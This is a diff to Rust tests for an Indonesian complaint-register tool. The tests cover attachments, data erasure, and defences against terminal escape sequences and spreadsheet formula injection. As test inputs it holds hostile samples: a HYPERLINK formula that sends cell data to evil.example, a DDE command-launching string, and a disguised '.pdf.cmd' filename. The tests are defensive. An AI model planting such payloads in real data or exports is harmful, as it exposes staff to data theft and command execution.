@@ -2,12 +2,15 @@
 //! (and on DynamoDB through moto's server), through the whole path of a complaint: intake on the
 //! site, a phone complaint registered, files returned then complete, every step, the Berita
 //! Acara number, the public status page, listing, the export as CSV and as a real .xlsx, and the
-//! erasure of personal data.
+//! erasure of personal data; attachments sent through the form, saved and erased; stored text
+//! that would act on a terminal or a spreadsheet.
 
 use bytes::Bytes;
 use form_fn::{App, Config, Pages, handle};
 use http::{Request, StatusCode};
 use jiff::Timestamp;
+use pengaduan_store::attachments::AnyAttachments;
+use pengaduan_store::attachments::local::LocalAttachments;
 use pengaduan_store::sqlite::SqliteStore;
 use pengaduan_store::testing::Moto;
 use serde_json::{Value, json};
@@ -355,7 +358,19 @@ async fn the_whole_path_on_sqlite() {
 
 #[test]
 fn every_command_has_indonesian_help() {
-    for sub in ["", "daftar", "lihat", "catat", "lengkap", "kembalikan", "lanjut", "ekspor", "hapus-data-pribadi"] {
+    for sub in [
+        "",
+        "daftar",
+        "lihat",
+        "catat",
+        "lengkap",
+        "kembalikan",
+        "lanjut",
+        "ekspor",
+        "hapus-data-pribadi",
+        "lampiran",
+        "unduh",
+    ] {
         let mut cmd = Command::new(BIN);
         if !sub.is_empty() {
             cmd.arg(sub);
@@ -380,6 +395,36 @@ fn usage_errors_are_indonesian() {
     let out = Command::new(BIN).args(["hapus"]).output().unwrap();
     let err = String::from_utf8(out.stderr).unwrap();
     assert!(err.contains("perintah \"hapus\" tidak dikenal"), "{err}");
+}
+
+#[test]
+fn an_unknown_command_lists_every_command() {
+    let out = Command::new(BIN).args(["unggah", "PGD-2026-00001"]).output().unwrap();
+    assert_eq!(out.status.code(), Some(2));
+    let err = String::from_utf8(out.stderr).unwrap();
+    let listed =
+        err.lines().find_map(|l| l.split_once("perintah yang ada: ")).map(|(_, list)| list).unwrap_or_default();
+    let listed: Vec<&str> = listed.split(", ").collect();
+    assert_eq!(
+        listed,
+        [
+            "daftar",
+            "lihat",
+            "catat",
+            "lengkap",
+            "kembalikan",
+            "lanjut",
+            "ekspor",
+            "hapus-data-pribadi",
+            "lampiran",
+            "unduh"
+        ],
+        "{err}"
+    );
+    // The hint names the command when one was given, now for every command.
+    let out = Command::new(BIN).args(["unduh", "PGD-2026-00001"]).output().unwrap();
+    let err = String::from_utf8(out.stderr).unwrap();
+    assert!(err.contains("isian wajib belum diberikan: --ke") && err.contains("pengaduan-staf unduh --help"), "{err}");
 }
 
 #[test]
@@ -427,13 +472,265 @@ fn dates_given_by_staff_are_checked() {
     assert!(web.stderr.contains("Kanal web dipakai formulir daring"), "{}", web.stderr);
 }
 
+// ---- Attachments, sent through the form ----
+
+const PDF: &[u8] = b"%PDF-1.7\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n";
+const PNG: &[u8] = &[0x89, b'P', b'N', b'G', 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 0x0D, b'I', b'H', b'D', b'R'];
+
+/// A multipart body as a browser sends it: the form's fields, then `lampiran` files.
+fn multipart(files: &[(&str, &str, &[u8])]) -> Vec<u8> {
+    let fields = [
+        ("jenis", "pengaduan"),
+        ("nama", "Siti Rahayu"),
+        ("email", "siti@contoh.co.id"),
+        ("judul", "Izin usaha belum terbit"),
+        ("isi", "Permohonan izin saya belum terbit setelah tiga minggu."),
+        ("pernyataan_kebenaran", "on"),
+        ("persetujuan_data", "on"),
+    ];
+    let mut body = Vec::new();
+    for (k, v) in fields {
+        body.extend_from_slice(
+            format!("--B0und4ry\r\nContent-Disposition: form-data; name=\"{k}\"\r\n\r\n{v}\r\n").as_bytes(),
+        );
+    }
+    for (name, declared, bytes) in files {
+        body.extend_from_slice(
+            format!("--B0und4ry\r\nContent-Disposition: form-data; name=\"lampiran\"; filename=\"{name}\"\r\nContent-Type: {declared}\r\n\r\n")
+                .as_bytes(),
+        );
+        body.extend_from_slice(bytes);
+        body.extend_from_slice(b"\r\n");
+    }
+    body.extend_from_slice(b"--B0und4ry--\r\n");
+    body
+}
+
+/// Submits a complaint with `files` through the handler, storing them where the tool looks by
+/// default (`lampiran/` beside the database); its register number.
+async fn submit_with_files(db: &Path, files: &[(&str, &str, &[u8])]) -> String {
+    let folder = LocalAttachments::open(&db.parent().unwrap().join("lampiran")).unwrap();
+    let site = app(db, "2026-03-16T01:00:00Z").with_attachments(AnyAttachments::Local(folder));
+    let req = Request::builder()
+        .method("POST")
+        .uri("/api/pengaduan")
+        .header("content-type", "multipart/form-data; boundary=B0und4ry")
+        .header("accept", "application/json")
+        .body(Bytes::from(multipart(files)))
+        .unwrap();
+    let resp = handle(&site, req, None).await;
+    assert_eq!(resp.status(), StatusCode::CREATED, "{}", String::from_utf8_lossy(resp.body()));
+    let v: Value = serde_json::from_slice(resp.body()).unwrap();
+    v["nomor"].as_str().unwrap().to_owned()
+}
+
+/// The names in `dir`, sorted.
+fn names_in(dir: &Path) -> Vec<String> {
+    let mut names: Vec<String> =
+        std::fs::read_dir(dir).unwrap().map(|e| e.unwrap().file_name().to_string_lossy().into_owned()).collect();
+    names.sort();
+    names
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn unduh_saves_each_file_under_a_safe_name_with_its_detected_type() {
+    let dir = tempfile::tempdir().unwrap();
+    let db = dir.path().join("pengaduan.db");
+    let staf = Staf::sqlite(&db);
+    let files: [(&str, &str, &[u8]); 2] =
+        [("Bukti Transfer.pdf.cmd", "application/pdf", PDF), ("foto.svg", "image/svg+xml", PNG)];
+    let nomor = submit_with_files(&db, &files).await;
+
+    // Listed under the names the citizen gave, as text.
+    let out = staf.ok(MON_16_MARCH, &["lampiran", &nomor]);
+    assert!(out.contains("1. Bukti Transfer.pdf.cmd  (application/pdf"), "{out}");
+    assert!(out.contains("2. foto.svg  (image/png"), "{out}");
+
+    // Saved under names that open what the file is.
+    let ke = dir.path().join("unduhan");
+    let out = staf.ok(MON_16_MARCH, &["unduh", &nomor, "--ke", ke.to_str().unwrap()]);
+    assert_eq!(names_in(&ke), ["1-Bukti Transfer.pdf", "2-foto.png"], "{out}");
+    assert_eq!(std::fs::read(ke.join("1-Bukti Transfer.pdf")).unwrap(), PDF);
+    assert_eq!(std::fs::read(ke.join("2-foto.png")).unwrap(), PNG);
+    assert!(out.contains("1-Bukti Transfer.pdf") && !out.contains(".cmd") && !out.contains(".svg"), "{out}");
+
+    // A second run writes nothing over the first.
+    let again = staf.run(MON_16_MARCH, &["unduh", &nomor, "--ke", ke.to_str().unwrap()]);
+    assert_eq!(again.code, 1);
+    assert!(again.stderr.contains("tidak ditimpa"), "{}", again.stderr);
+    assert_eq!(names_in(&ke), ["1-Bukti Transfer.pdf", "2-foto.png"]);
+
+    // A manifest written before names were sanitised: the name is shown escaped, saved safe.
+    let manifest = dir.path().join("lampiran/lampiran").join(&nomor).join("manifest.json");
+    let mut m: Value = serde_json::from_slice(&std::fs::read(&manifest).unwrap()).unwrap();
+    m["files"][0]["display_name"] = json!("Bukti\u{1b}[2J\u{7}.pdf");
+    std::fs::write(&manifest, m.to_string()).unwrap();
+    let out = staf.ok(MON_16_MARCH, &["lampiran", &nomor]);
+    assert!(out.contains(r"1. Bukti\x1b[2J\x07.pdf  (application/pdf"), "{out}");
+    assert!(!out.contains('\u{1b}') && !out.contains('\u{7}'), "{out:?}");
+    let fresh = dir.path().join("unduhan-2");
+    staf.ok(MON_16_MARCH, &["unduh", &nomor, "--ke", fresh.to_str().unwrap()]);
+    assert_eq!(names_in(&fresh), ["1-Bukti_2J.pdf", "2-foto.png"]);
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn erasure_deletes_the_attachments_and_says_how_many() {
+    let dir = tempfile::tempdir().unwrap();
+    let db = dir.path().join("pengaduan.db");
+    let staf = Staf::sqlite(&db);
+    let nomor = submit_with_files(&db, &[("ktp.pdf", "application/pdf", PDF)]).await;
+    let folder = dir.path().join("lampiran/lampiran").join(&nomor);
+    assert!(folder.is_dir(), "the default folder beside the database");
+    assert!(staf.ok(MON_16_MARCH, &["lampiran", &nomor]).contains("1. ktp.pdf"));
+
+    let out =
+        staf.ok(MON_16_MARCH, &["hapus-data-pribadi", &nomor, "--petugas", "Admin", "--alasan", "Permintaan pengadu"]);
+    assert!(out.contains("dan 1 lampirannya telah dihapus"), "{out}");
+    let out = staf.ok(MON_16_MARCH, &["lampiran", &nomor]);
+    assert_eq!(out, format!("{nomor} tidak mempunyai lampiran.\n"));
+    assert!(!folder.exists(), "{} is gone", folder.display());
+    let out = staf.ok(MON_16_MARCH, &["lihat", &nomor]);
+    assert!(out.contains("(dihapus atas permintaan pada") && out.contains("; 1 lampiran ikut dihapus)"), "{out}");
+    assert!(!out.contains("Siti Rahayu") && !out.contains("ktp.pdf"), "{out}");
+    let ke = dir.path().join("unduhan");
+    let out = staf.ok(MON_16_MARCH, &["unduh", &nomor, "--ke", ke.to_str().unwrap()]);
+    assert!(out.contains("tidak ada yang disimpan") && !ke.exists(), "{out}");
+}
+
+// ---- Stored text that a terminal or a spreadsheet would act on ----
+
+/// A complaint stored as an older version of the site could have stored it, before input was
+/// checked as strictly as now: straight into the tool's SQLite file.
+fn insert_raw_complaint(db: &Path, nomor: &str, seq: i64, text: &str) {
+    let conn = rusqlite::Connection::open(db).unwrap();
+    conn.execute(
+        "INSERT INTO complaints (nomor, prefix, year, seq, kode_hash, channel, jenis, judul, status, received_at,
+             anonim, rahasia, layanan, isi, lokasi)
+         VALUES (?1, 'PGD', 2026, ?2, 'x', 'telepon', 'pengaduan', ?3, 'diterima', '2026-03-16T02:00:00Z',
+             0, 0, ?4, ?5, ?6)",
+        rusqlite::params![
+            nomor,
+            seq,
+            format!("Judul {text}"),
+            format!("Layanan {text}"),
+            format!("Isi {text}\nbaris kedua"),
+            format!("Lokasi {text}"),
+        ],
+    )
+    .unwrap();
+    conn.execute(
+        "INSERT INTO personal_data (nomor, nama, email, telepon, nik, alamat) VALUES (?1, ?2, NULL, NULL, NULL, ?3)",
+        rusqlite::params![nomor, format!("Nama {text}"), format!("Alamat {text}")],
+    )
+    .unwrap();
+    conn.execute(
+        "INSERT INTO history (nomor, seq, at, by_name, action, from_status, to_status, note)
+         VALUES (?1, 1, '2026-03-16T02:00:00Z', ?2, 'dicatat', NULL, 'diterima', ?3)",
+        rusqlite::params![nomor, format!("Petugas {text}"), format!("Catatan {text}\nbaris kedua")],
+    )
+    .unwrap();
+}
+
+const TERMINAL_ATTACK: &str = "\u{1b}]0;owned\u{7}\u{1b}[2J";
+const SPELLED_OUT: &str = r"\x1b]0;owned\x07\x1b[2J";
+
+#[test]
+fn stored_control_sequences_are_shown_escaped_never_sent_to_the_terminal() {
+    let dir = tempfile::tempdir().unwrap();
+    let db = dir.path().join("pengaduan.db");
+    let staf = Staf::sqlite(&db);
+    assert!(staf.ok(MON_16_MARCH, &["daftar"]).contains("Tidak ada pengaduan"), "the tool creates the file");
+    insert_raw_complaint(&db, "PGD-2026-00001", 1, TERMINAL_ATTACK);
+
+    let out = staf.ok(MON_16_MARCH, &["daftar"]);
+    assert!(!out.contains('\u{1b}') && !out.contains('\u{7}'), "{out:?}");
+    assert!(out.contains(&format!("Judul {SPELLED_OUT}")), "{out}");
+
+    let out = staf.ok(MON_16_MARCH, &["lihat", "PGD-2026-00001"]);
+    assert!(!out.contains('\u{1b}') && !out.contains('\u{7}'), "{out:?}");
+    for needle in [
+        format!("Judul            : Judul {SPELLED_OUT}\n"),
+        format!("Layanan          : Layanan {SPELLED_OUT}\n"),
+        format!("Lokasi           : Lokasi {SPELLED_OUT}\n"),
+        // The complaint's text and notes keep their lines.
+        format!("Isi              : Isi {SPELLED_OUT}\nbaris kedua\n"),
+        format!("  Nama    : Nama {SPELLED_OUT}\n"),
+        format!("  Alamat  : Alamat {SPELLED_OUT}\n"),
+        format!("Petugas {SPELLED_OUT}\n"),
+        format!("Catatan: Catatan {SPELLED_OUT}\nbaris kedua\n"),
+    ] {
+        assert!(out.contains(&needle), "lihat lacks {needle:?}:\n{out}");
+    }
+}
+
+#[test]
+fn exported_titles_are_never_formulas() {
+    let dir = tempfile::tempdir().unwrap();
+    let db = dir.path().join("pengaduan.db");
+    let staf = Staf::sqlite(&db);
+    let titles = [r#"=HYPERLINK("http://evil.example/?x="&A1,"klik")"#, "@SUM(1+1)", "+cmd|' /C calc'!A0", "-2+3"];
+    let conn = rusqlite::Connection::open(&db).unwrap();
+    for (i, title) in titles.iter().enumerate() {
+        let judul = format!("Pengaduan nomor {i}");
+        let isi = format!("Isi pengaduan nomor {i} yang cukup panjang untuk diterima.");
+        let mut args = catat_args(&["--persetujuan"]);
+        args[6] = &judul;
+        args[8] = &isi;
+        let (nomor, _) = number_and_code(&staf.ok(MON_16_MARCH, &args));
+        // Some of these the form refuses today (too short); stored before, or by another tool.
+        conn.execute("UPDATE complaints SET judul = ?1 WHERE nomor = ?2", [title, &nomor.as_str()]).unwrap();
+    }
+    let csv_path = dir.path().join("register.csv");
+    let xlsx_path = dir.path().join("register.xlsx");
+    staf.ok(
+        MON_16_MARCH,
+        &[
+            "ekspor",
+            "--dari",
+            "2026-03-01",
+            "--sampai",
+            "2026-03-31",
+            "--csv",
+            csv_path.to_str().unwrap(),
+            "--xlsx",
+            xlsx_path.to_str().unwrap(),
+        ],
+    );
+
+    let rows: Vec<csv::StringRecord> =
+        csv::Reader::from_path(&csv_path).unwrap().records().map(Result::unwrap).collect();
+    let judul: Vec<&str> = rows.iter().map(|r| &r[4]).collect();
+    let quoted: Vec<String> = titles.iter().map(|t| format!("'{t}")).collect();
+    assert_eq!(judul, quoted);
+    assert_eq!(&rows[0][0], "PGD-2026-00001", "other cells as they were");
+
+    let mut zip = zip::ZipArchive::new(std::fs::File::open(&xlsx_path).unwrap()).unwrap();
+    let mut sheet = String::new();
+    zip.by_name("xl/worksheets/sheet1.xml").unwrap().read_to_string(&mut sheet).unwrap();
+    assert!(!sheet.contains("<f>") && !sheet.contains("<f "), "no formula anywhere:\n{sheet}");
+    for row in 2..=5 {
+        let start = sheet.find(&format!("<c r=\"E{row}\"")).unwrap_or_else(|| panic!("E{row} in\n{sheet}"));
+        let tag = &sheet[start..start + sheet[start..].find('>').unwrap()];
+        assert!(tag.contains("t=\"s\"") || tag.contains("t=\"inlineStr\""), "E{row} is text: {tag}");
+    }
+    let mut strings = String::new();
+    zip.by_name("xl/sharedStrings.xml").unwrap().read_to_string(&mut strings).unwrap();
+    for title in ["@SUM(1+1)", "-2+3", "=HYPERLINK("] {
+        assert!(strings.contains(title), "{title} kept as written in the workbook");
+    }
+}
+
 // ---- DynamoDB, through moto's server ----
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn the_whole_path_on_dynamodb() {
     let moto = Moto::start();
     let store = moto.store().await;
-    let staf = Staf { store: format!("dynamodb:{}", store.table()), env: moto.env() };
+    // Erasure deletes attachments first, so the tool needs the bucket as the deployed one has it.
+    let bucket = pengaduan_store::testing::new_bucket(&moto.s3().await).await;
+    let mut env = moto.env();
+    env.push(("ATTACHMENTS_BUCKET".to_owned(), bucket));
+    let staf = Staf { store: format!("dynamodb:{}", store.table()), env };
     let (nomor, _) = number_and_code(&staf.ok(MON_16_MARCH, &catat_args(&["--persetujuan"])));
     assert_eq!(nomor, "PGD-2026-00001");
     staf.ok(TUE_17_MARCH, &["lengkap", &nomor, "--prosedur", "penyelesaian", "--petugas", "Rina"]);
